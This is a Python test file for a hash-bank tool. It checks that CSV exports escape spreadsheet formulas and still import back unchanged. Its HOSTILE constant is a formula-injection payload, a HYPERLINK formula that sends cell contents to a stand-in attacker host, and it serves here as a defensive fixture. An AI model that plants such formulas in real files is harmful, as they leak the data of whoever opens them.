"""Exported hash lists cannot carry spreadsheet formulas, and still import back unchanged."""

from __future__ import annotations

import csv

from sqlalchemy import select

from tests.workbench.banks.test_import_export import MD5, PDQ, cli
from workbench.extensions import db
from workbench.models import BankEntry, HashBank

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def stored(app, bank_name: str) -> list[tuple[str, str, str, str]]:
    with app.app_context():
        rows = db.session.execute(
            select(BankEntry.value, BankEntry.source, BankEntry.category, BankEntry.tags)
            .join(HashBank, HashBank.id == BankEntry.bank_id)
            .where(HashBank.name == bank_name)
            .order_by(BankEntry.value)
        ).all()
    return [tuple(row) for row in rows]


def test_hma_csv_export_neutralises_formulas_and_imports_back(app, tmp_path):
    cli(app, "banks", "create", "from-partner", "--kind", "other")
    cli(app, "banks", "create", "round-trip", "--kind", "other")
    partner_file = tmp_path / "partner.csv"  # a list as a partner might send it, formulas and all
    with open(partner_file, "w", newline="") as handle:
        writer = csv.writer(handle, lineterminator="\n")
        writer.writerows(
            [
                ("signal_type", "signal_str", "collab", "category", "tags"),
                ("pdq", PDQ[0], HOSTILE, "@SUM(A1:A9)", f"{HOSTILE} plain"),
                ("pdq", PDQ[1], "-2+3", "+cmd", "'=already-quoted"),
                ("md5", MD5, "GIFCT", "'plain quote", "ok"),
            ]
        )
    cli(app, "banks", "import", "from-partner", str(partner_file), "--format", "hma_csv")
    original = stored(app, "from-partner")
    assert (PDQ[0], HOSTILE, "@SUM(A1:A9)", f"{HOSTILE} plain") in original
    assert (PDQ[1], "-2+3", "+cmd", "=already-quoted") in original  # a file escaped the same way reads as meant

    exported = tmp_path / "exported.csv"
    cli(app, "banks", "export", "from-partner", "--format", "hma_csv", "--out", str(exported))
    with open(exported, newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    by_hash = {row[1]: row for row in rows[1:]}
    assert by_hash[PDQ[0]][2:] == ["'" + HOSTILE, "'@SUM(A1:A9)", f"'{HOSTILE} plain"]
    assert by_hash[PDQ[1]][2:] == ["'-2+3", "'+cmd", "'=already-quoted"]
    assert by_hash[MD5][2:] == ["GIFCT", "'plain quote", "ok"]  # a quote before plain text is left alone

    cli(app, "banks", "import", "round-trip", str(exported), "--format", "hma_csv")
    assert stored(app, "round-trip") == original
